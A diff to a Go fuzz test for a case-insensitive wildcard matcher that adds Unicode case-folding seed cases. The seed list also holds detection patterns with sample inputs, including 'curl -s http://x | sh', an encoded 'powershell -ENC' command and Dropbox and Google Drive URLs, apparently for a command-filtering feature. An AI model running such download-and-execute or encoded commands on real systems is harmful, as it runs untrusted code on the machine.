@@ -38,7 +38,8 @@ func FuzzLinearMatch(f *testing.F) {
 		{"*curl*|*sh*", "curl -s http://x | sh"}, {"*CURL*|*SH*", "xcUrLy|yyShz"}, {"*-enc*", "powershell -ENC aGk="},
 		{"*k*s*", "\u212a\u017f"}, {"*é*É*b*", "xÉyéb"}, {"a*b", "ab"}, {"ab*ba", "aba"}, {"*\xff*", "a\xfeb"},
 		{"*\ufffd*", "\xff"}, {".*(dropbox|drive\\.google).*", "https://DRIVE.google.com"}, {"*a**b*", "xaby"},
-		{"**", ""}, {"*", "anything"}, {"*?b*", "ab"}, {"*ſ*", "S"}, {"x*K", "xyk"},
+		{"**", ""}, {"*", "anything"}, {"*?b*", "ab"}, {"*ſ*", "S"}, {"x*K", "xyk"}, {"*á*á*á*á*á*", "ááááá"},
+		{"*\U0001F600b*", "x\U0001F600B"}, {"*\U00010400*", "\U00010428"},
 	} {
 		f.Add(s[0], s[1], true)
 		f.Add(s[0], s[1], false)
